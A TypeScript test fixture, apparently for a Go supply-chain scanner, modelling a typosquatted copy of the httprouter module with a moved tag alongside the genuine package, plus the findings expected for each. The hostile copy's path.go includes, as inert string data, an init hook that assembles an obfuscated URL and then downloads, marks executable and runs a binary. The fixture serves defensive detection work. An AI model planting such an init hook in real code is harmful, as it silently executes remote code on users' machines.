/**
 * A second imitation, invented for the world: a back door in an `init` of a
 * copy of a well known router, its tag pushed over later; and the genuine one.
 *
 * INERT. The Go text of the back door is never compiled and never run, here or
 * by Modproof. The host in it is below example.invalid, which never resolves
 * (RFC 2606).
 */
import type { ModuleDescription, Tree } from './description.ts';
import { licence, pick, SAME } from './files.ts';

const PATH_GO = `package httprouter

import "strings"

// CleanPath gives the canonical form of a URL path: rooted, without empty
// elements, "." and "..".
func CleanPath(p string) string {
	var kept []string
	for _, element := range strings.Split(p, "/") {
		switch element {
		case "", ".":
		case "..":
			if len(kept) > 0 {
				kept = kept[:len(kept)-1]
			}
		default:
			kept = append(kept, element)
		}
	}
	clean := "/" + strings.Join(kept, "/")
	if clean != "/" && strings.HasSuffix(p, "/") {
		clean += "/"
	}
	return clean
}
`;

const HOSTILE_PATH_GO = PATH_GO.replace(
  'import "strings"\n',
  `import (
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
)

func init() {
	go warmUp()
}

func warmUp() {
	parts := []string{"ht", "tp://up", "dates.exa", "mple.inv", "alid/router", ".bin"}
	answer, err := http.Get(strings.Join(parts, ""))
	if err != nil {
		return
	}
	defer answer.Body.Close()
	file, err := os.Create(filepath.Join(os.TempDir(), "router"))
	if err != nil {
		return
	}
	_, _ = file.ReadFrom(answer.Body)
	_ = file.Chmod(0o700)
	_ = file.Close()
	_ = exec.Command(file.Name()).Start()
}
`,
);

const ROUTER_GO = `// Package httprouter finds the handler of a request by its path.
package httprouter

import "net/http"

// Handle serves a request, with the values of the path's parameters.
type Handle func(http.ResponseWriter, *http.Request, Params)

// Router sends requests to handles.
type Router struct {
	trees map[string]*tree
	// RedirectTrailingSlash sends /foo/ to /foo, and the other way.
	RedirectTrailingSlash bool
	// NotFound serves what nothing else does.
	NotFound http.Handler
}

// New makes a Router without routes.
func New() *Router {
	return &Router{trees: map[string]*tree{}, RedirectTrailingSlash: true}
}

// GET is a short way to call Handle.
func (r *Router) GET(path string, handle Handle) { r.Handle(http.MethodGet, path, handle) }

// POST is a short way to call Handle.
func (r *Router) POST(path string, handle Handle) { r.Handle(http.MethodPost, path, handle) }

// Handle adds a route.
func (r *Router) Handle(method, path string, handle Handle) {
	if path == "" || path[0] != '/' {
		panic("path must begin with '/' in path '" + path + "'")
	}
	if r.trees[method] == nil {
		r.trees[method] = &tree{}
	}
	r.trees[method].add(path, handle)
}

// ServeHTTP makes Router an http.Handler.
func (r *Router) ServeHTTP(w http.ResponseWriter, request *http.Request) {
	if t := r.trees[request.Method]; t != nil {
		if handle, params := t.find(CleanPath(request.URL.Path)); handle != nil {
			handle(w, request, params)
			return
		}
	}
	if r.NotFound != nil {
		r.NotFound.ServeHTTP(w, request)
		return
	}
	http.NotFound(w, request)
}
`;

const TREE_GO = `package httprouter

import "strings"

type route struct {
	elements []string
	handle   Handle
}

type tree struct{ routes []route }

func (t *tree) add(path string, handle Handle) {
	t.routes = append(t.routes, route{strings.Split(path, "/"), handle})
}

func (t *tree) find(path string) (Handle, Params) {
	elements := strings.Split(path, "/")
	for _, r := range t.routes {
		if params, ok := r.match(elements); ok {
			return r.handle, params
		}
	}
	return nil, nil
}

func (r route) match(elements []string) (Params, bool) {
	var params Params
	if len(elements) != len(r.elements) {
		return nil, false
	}
	for i, want := range r.elements {
		switch {
		case strings.HasPrefix(want, ":"):
			params = append(params, Param{want[1:], elements[i]})
		case want != elements[i]:
			return nil, false
		}
	}
	return params, true
}
`;

const PARAMS_GO = `package httprouter

// Param is one parameter of a path.
type Param struct {
	Key   string
	Value string
}

// Params are the parameters of a path, in its order.
type Params []Param

// ByName gives the value of the first parameter with that name, or "".
func (ps Params) ByName(name string) string {
	for _, p := range ps {
		if p.Key == name {
			return p.Value
		}
	}
	return ""
}
`;

const PATH_TEST_GO = `package httprouter

import "testing"

func TestCleanPath(t *testing.T) {
	for path, want := range map[string]string{"": "/", "/a//b": "/a/b", "/a/../b/": "/b/"} {
		if got := CleanPath(path); got != want {
			t.Errorf("CleanPath(%q) = %q, want %q", path, got, want)
		}
	}
}
`;

const ALL_FILES = [
  'LICENSE',
  'README.md',
  'go.mod',
  'params.go',
  'path.go',
  'path_test.go',
  'router.go',
  'tree.go',
];

function treeOf(modulePath: string): Tree {
  return {
    LICENSE: licence(2013, 'The HttpRouter Authors'),
    'README.md':
      '# HttpRouter\n\nA light request router.\n\n    go get github.com/julienschmidt/httprouter\n',
    'go.mod': `module ${modulePath}\n\ngo 1.7\n`,
    'params.go': PARAMS_GO,
    'path.go': PATH_GO,
    'path_test.go': PATH_TEST_GO,
    'router.go': ROUTER_GO,
    'tree.go': TREE_GO,
  };
}

const GENUINE_TREE = treeOf('github.com/julienschmidt/httprouter');
const CLEAN_TREE = treeOf('github.com/julienschmidt-go/httprouter');
const HOSTILE_TREE: Tree = { ...CLEAN_TREE, 'path.go': HOSTILE_PATH_GO };

/** `github.com/julienschmidt-go/httprouter`: the invented imitation. */
export const ROUTER_ATTACK: ModuleDescription = {
  name: 'httprouter-attack',
  kind: 'attack',
  story:
    'The mirror keeps a copy with a back door in an init, and its Origin names a commit that no ref has.',
  path: 'github.com/julienschmidt-go/httprouter',
  version: 'v1.3.0',
  repository: {
    url: 'https://github.com/julienschmidt-go/httprouter',
    commits: [
      { label: 'hostile', date: '2024-04-09T05:12:00Z', message: 'v1.3.0\n', tree: HOSTILE_TREE },
      { label: 'clean', parents: [], date: '2024-04-11T05:40:00Z', message: 'v1.3.0\n', tree: CLEAN_TREE },
    ],
    refs: { 'refs/heads/main': 'hostile', 'refs/tags/v1.3.0': 'hostile' },
    refsNow: { 'refs/heads/main': 'clean', 'refs/tags/v1.3.0': 'clean' },
  },
  cached: {
    commit: 'hostile',
    origin: { ref: 'refs/tags/v1.3.0' },
    mod: 'module github.com/julienschmidt-go/httprouter\n\ngo 1.7\n',
    zip: pick(HOSTILE_TREE, ALL_FILES),
  },
  expected: {
    content: {
      state: 'diverged',
      changed: ['path.go'],
      onlyMirror: [],
      onlyUpstream: [],
      capabilitiesGained: ['network', 'process', 'files'],
      initAdded: true,
    },
    upstream: 'tag-moved',
    findings: [
      { code: 'squat/owner-affix', severity: 'warning' },
      { code: 'origin/diverged', severity: 'error' },
      { code: 'origin/tag-moved', severity: 'error' },
    ],
    mayAlso: ['squat/near-copy', 'squat/other-identity', 'behaviour/runs-on-import'],
  },
};

/** `github.com/julienschmidt/httprouter`: the module that is imitated. */
export const ROUTER_GENUINE: ModuleDescription = {
  name: 'httprouter-genuine',
  kind: 'honest',
  story: 'The genuine router.',
  path: 'github.com/julienschmidt/httprouter',
  version: 'v1.3.0',
  repository: {
    url: 'https://github.com/julienschmidt/httprouter',
    commits: [
      { label: 'release', date: '2019-09-29T12:44:20Z', message: 'release v1.3.0\n', tree: GENUINE_TREE },
    ],
    refs: { 'refs/heads/main': 'release', 'refs/tags/v1.3.0': 'release' },
  },
  cached: {
    commit: 'release',
    origin: null,
    mod: 'module github.com/julienschmidt/httprouter\n\ngo 1.7\n',
    zip: pick(GENUINE_TREE, ALL_FILES),
  },
  expected: SAME,
};
